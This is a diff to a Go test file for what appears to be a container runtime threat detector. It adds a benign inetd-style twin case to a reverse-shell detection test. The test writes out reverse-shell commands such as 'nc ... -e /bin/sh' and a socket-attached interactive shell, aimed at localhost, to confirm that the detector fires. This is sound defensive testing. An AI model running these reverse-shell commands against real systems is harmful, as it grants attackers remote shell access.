@@ -271,14 +271,17 @@ func TestPrivilegeAttacks(t *testing.T) {
 // TestReverseShell: nc connects out and runs a shell on the socket; the
 // twin connects and sends a file. A second attack puts the socket on the
 // shell's standard input and output without dup2 (fd 0 closed and taken
-// by socket(), fd 1 by fcntl); its twin starts a shell on a unix socket
-// pair, as a service manager does.
+// by socket(), fd 1 by fcntl); its twins start a shell on a unix socket
+// pair, as a service manager does, and one running a command on a TCP
+// connection, as an inetd-style server does.
 func TestReverseShell(t *testing.T) {
 	m := start(t)
 	l := listen(t)
 	id, twin, dupless := attackContainer(t), attackContainer(t), attackContainer(t)
 	Sh(t, twin, "echo hello | nc -w 1 127.0.0.1 "+port(l))
 	Sh(t, twin, "/t/actor stdio-socket-exec unix /bin/sh -c true")
+	// inetd-style: a shell runs a command, not the connection's input.
+	Sh(t, twin, "/t/actor stdio-socket-exec inet:127.0.0.1:"+port(l)+" /bin/sh -c 'echo served'")
 	go Sh(t, id, "nc 127.0.0.1 "+port(l)+" -e /bin/sh")
 	go Sh(t, dupless, "/t/actor stdio-socket-exec inet:127.0.0.1:"+port(l)+" /bin/sh -i")
 	f := m.Wait(t, "Execution:Runtime/ReverseShell", InContainer(id))
